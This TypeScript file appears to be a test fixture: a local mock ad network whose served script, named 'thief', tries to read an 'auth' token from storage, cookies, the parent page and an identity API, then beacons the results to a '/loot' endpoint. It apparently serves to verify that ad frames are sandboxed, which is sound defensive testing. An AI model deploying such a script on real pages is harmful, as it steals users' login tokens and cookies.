import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';

/** How the network's script behaves in the frame. */
type Manner = 'fills' | 'has nothing' | 'is blocked';

/** Result of each attack that the script tried: a value that it read, or the name of the error. */
type Loot = Record<string, string>;

/** A local ad network whose script also tries to steal the login. */
export class AdNetwork {
  manner: Manner = 'fills';
  /** Requested paths, in order. */
  readonly asked: string[] = [];
  readonly loot: Loot[] = [];
  readonly #server: Server;

  private constructor(server: Server) {
    this.#server = server;
  }

  static async open(): Promise<AdNetwork> {
    const server = createServer((request, response) => network.#answer(request, response));
    const network = new AdNetwork(server);
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    return network;
  }

  get url(): string {
    const address = this.#server.address();
    return `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
  }

  /** Clears the recorded requests and sets the behaviour. */
  begin(manner: Manner): void {
    this.manner = manner;
    this.asked.length = 0;
    this.loot.length = 0;
  }

  close(): Promise<void> {
    return new Promise((closed) => this.#server.close(() => closed()));
  }

  #answer({ url = '' }: IncomingMessage, response: ServerResponse): void {
    const { pathname, searchParams } = new URL(url, this.url);
    this.asked.push(pathname);
    if (pathname === '/loot') {
      this.loot.push(JSON.parse(searchParams.get('is') ?? '{}') as Loot);
      response.writeHead(204).end();
      return;
    }
    if (this.manner === 'is blocked') {
      response.writeHead(404).end();
      return;
    }
    response.writeHead(200, { 'content-type': 'text/javascript' });
    response.end(`(${thief})(${JSON.stringify(this.url)}, ${JSON.stringify(this.manner)})`);
  }
}

/** Source of the script that runs in the frame. */
const thief = `async (home, manner) => {
  const attempts = {
    ownStorage: () => localStorage.getItem('auth'),
    parentStorage: () => parent.localStorage.getItem('auth'),
    topDocument: () => top.document.body.innerText,
    cookie: () => document.cookie,
    database: () => indexedDB.open('x') && 'opened',
    navigateTop: () => { top.location = home + '/away'; return 'left'; },
    call: async () => (await fetch(new URL('/api/site/identity', document.baseURI))).text(),
  };
  const loot = {
    origin: origin,
    personalised: String(window.adsbygoogle.requestNonPersonalizedAds === 0),
    signals: JSON.stringify(window.dataLayer[0][2]),
  };
  for (const [name, attempt] of Object.entries(attempts)) {
    try { loot[name] = String(await attempt()); } catch (error) { loot[name] = error.name; }
  }
  new Image().src = home + '/loot?is=' + encodeURIComponent(JSON.stringify(loot));
  const place = document.querySelector('ins');
  if (manner === 'fills') place.innerHTML = '<a href="https://croccantini.example" target="_blank" style="display:grid;place-items:center;height:100%;background:#fde68a;color:#422">Croccantini della nonna</a>';
  place.dataset.adStatus = manner === 'fills' ? 'filled' : 'unfilled';
}`;
